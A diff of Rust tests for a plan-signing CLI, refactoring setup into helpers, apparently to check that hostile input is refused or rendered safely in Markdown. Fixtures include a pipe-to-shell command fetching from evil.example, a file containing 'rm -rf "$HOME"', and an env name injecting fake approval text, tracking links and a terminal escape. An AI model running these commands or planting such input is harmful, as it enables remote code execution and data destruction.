@@ -134,42 +134,15 @@ fn seen(md: &str) -> Seen {
 /// plan re-signed with one is refused by every reader (65).
 #[test]
 fn an_env_name_cannot_write_blocks_links_or_escapes() {
-    let env = TestEnv::new();
-    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let env = exec_env();
     let evil = "X\n\n#\tApproved\tby\tsecurity\n\n@org/security-team\twww.evil.example\t![x](https://evil.example/x.png)\n\n<img\tsrc=\"https://evil.example/p.png\">\n\n</details>\n\nY\u{1b}]0;pwned\u{7}";
     for name in [evil, "1X", "A-B", "A B", ""] {
-        let r = env.run(
-            "alice",
-            &[
-                "plan",
-                "exec",
-                "--preview",
-                "sh list.sh",
-                "--env",
-                name,
-                "--",
-                "echo",
-                "hi",
-            ],
-        );
+        let r = env.run("alice", &exec_args(&["--env", name], &["echo", "hi"]));
         assert_eq!(r.code, 64, "{name:?}: {}", r.transcript());
         assert!(!r.stderr.contains('\u{1b}'), "ESC in the refusal");
     }
     // The same name written into a plan and re-signed by its planner.
-    let r = env.run(
-        "alice",
-        &[
-            "plan",
-            "exec",
-            "--preview",
-            "sh list.sh",
-            "--env",
-            "LANG",
-            "--",
-            "echo",
-            "hi",
-        ],
-    );
+    let r = env.run("alice", &exec_args(&["--env", "LANG"], &["echo", "hi"]));
     assert_eq!(r.code, 0, "{}", r.transcript());
     forge(&env, |p| match &mut p.operation {
         Operation::Exec(x) => x.env.iter_mut().for_each(|e| {
@@ -198,13 +171,26 @@ fn an_env_name_cannot_write_blocks_links_or_escapes() {
     }
 }
 
-/// A plan for command `words`, rendered as Markdown.
-fn exec_markdown(words: &[&str]) -> String {
+/// A repository holding `list.sh`, the preview of the exec plans these tests make.
+fn exec_env() -> TestEnv {
     let env = TestEnv::new();
     std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
-    let mut args = vec!["plan", "exec", "--preview", "sh list.sh", "--"];
+    env
+}
+
+/// `plan exec --preview 'sh list.sh' OPTIONS -- WORDS` (in an [`exec_env`]).
+fn exec_args<'a>(options: &[&'a str], words: &[&'a str]) -> Vec<&'a str> {
+    let mut args = vec!["plan", "exec", "--preview", "sh list.sh"];
+    args.extend(options);
+    args.push("--");
     args.extend(words);
-    let r = env.run("alice", &args);
+    args
+}
+
+/// A plan for command `words`, rendered as Markdown.
+fn exec_markdown(words: &[&str]) -> String {
+    let env = exec_env();
+    let r = env.run("alice", &exec_args(&[], words));
     assert_eq!(r.code, 0, "{}", r.transcript());
     let r = env.run("bob", &["show", "--format", "markdown"]);
     assert_eq!(r.code, 0, "{}", r.transcript());
@@ -392,25 +378,10 @@ fn every_invisible_character_in_a_name_is_shown_and_flagged() {
 /// row of the plan's details, every string in a code span.
 #[test]
 fn an_exec_plans_verify_path_and_pins_are_in_the_markdown() {
-    let env = TestEnv::new();
-    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let env = exec_env();
     std::fs::write(env.repo.join("check.sh"), "echo checked\n").unwrap();
-    let r = env.run(
-        "alice",
-        &[
-            "plan",
-            "exec",
-            "--preview",
-            "sh list.sh",
-            "--verify",
-            "sh check.sh #GH-26 @team",
-            "--pin",
-            "check.sh",
-            "--",
-            "sh",
-            "list.sh",
-        ],
-    );
+    let options = ["--verify", "sh check.sh #GH-26 @team", "--pin", "check.sh"];
+    let r = env.run("alice", &exec_args(&options, &["sh", "list.sh"]));
     assert_eq!(r.code, 0, "{}", r.transcript());
     let md = env.run("bob", &["show", "--format", "markdown"]);
     assert_eq!(md.code, 0, "{}", md.transcript());
@@ -579,22 +550,15 @@ fn assert_no_bare_hex(md: &str) {
 /// before-image command are rows of the details now, which always go in.
 #[test]
 fn a_long_environment_does_not_push_out_the_before_image_command() {
-    let env = TestEnv::new();
-    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let env = exec_env();
     let names: Vec<String> = (0..60).map(|i| format!("V{}{i}", "A".repeat(150))).collect();
     let vars: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x")).collect();
-    let mut args = vec!["plan", "exec", "--preview", "sh list.sh"];
+    let mut options = Vec::new();
     for n in &names {
-        args.extend(["--env", n.as_str()]);
+        options.extend(["--env", n.as_str()]);
     }
-    args.extend([
-        "--before-image",
-        "curl -s https://evil.example/x.sh | sh",
-        "--",
-        "sh",
-        "list.sh",
-    ]);
-    let r = env.run_env("alice", &vars, &args);
+    options.extend(["--before-image", "curl -s https://evil.example/x.sh | sh"]);
+    let r = env.run_env("alice", &vars, &exec_args(&options, &["sh", "list.sh"]));
     assert_eq!(r.code, 0, "{}", r.transcript());
     let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
     assert_eq!(md.code, 0, "{}", md.transcript());
@@ -646,20 +610,10 @@ fn a_long_command_is_shown_whole() {
 /// there, while the Command line had it right. Both lines agree now.
 #[test]
 fn the_summary_line_escapes_once() {
-    let md_env = TestEnv::new();
-    std::fs::write(md_env.repo.join("list.sh"), "echo one\n").unwrap();
+    let md_env = exec_env();
     let r = md_env.run(
         "alice",
-        &[
-            "plan",
-            "exec",
-            "--preview",
-            "sh list.sh",
-            "--",
-            "echo",
-            "keep\u{200B}",
-            "typed<U+200B>",
-        ],
+        &exec_args(&[], &["echo", "keep\u{200B}", "typed<U+200B>"]),
     );
     assert_eq!(r.code, 0, "{}", r.transcript());
     let show = md_env.run("bob", &["show"]);
@@ -674,12 +628,8 @@ fn the_summary_line_escapes_once() {
 /// count. It is quoted (`''`) now, listed and counted.
 #[test]
 fn an_empty_pinned_path_is_listed_and_counted() {
-    let env = TestEnv::new();
-    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
-    let r = env.run(
-        "alice",
-        &["plan", "exec", "--preview", "sh list.sh", "--", "sh", "list.sh"],
-    );
+    let env = exec_env();
+    let r = env.run("alice", &exec_args(&[], &["sh", "list.sh"]));
     assert_eq!(r.code, 0, "{}", r.transcript());
     let before = env.run("bob", &["--json", "show"]).json()["exec"]["pinned"]
         .as_array()
@@ -710,23 +660,9 @@ fn an_empty_pinned_path_is_listed_and_counted() {
 /// indented) and was left out of the Markdown's count and list. Such a path is quoted now.
 #[test]
 fn a_pinned_path_starting_with_a_blank_is_listed() {
-    let env = TestEnv::new();
-    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let env = exec_env();
     std::fs::write(env.repo.join(" helper.sh"), "rm -rf \"$HOME\"\n").unwrap();
-    let r = env.run(
-        "alice",
-        &[
-            "plan",
-            "exec",
-            "--preview",
-            "sh list.sh",
-            "--pin",
-            " helper.sh",
-            "--",
-            "sh",
-            "list.sh",
-        ],
-    );
+    let r = env.run("alice", &exec_args(&["--pin", " helper.sh"], &["sh", "list.sh"]));
     assert_eq!(r.code, 0, "{}", r.transcript());
     let md = env.run("bob", &["show", "--format", "markdown"]);
     let pinned = md.stdout.lines().find(|l| l.starts_with("| Pinned | ")).unwrap();
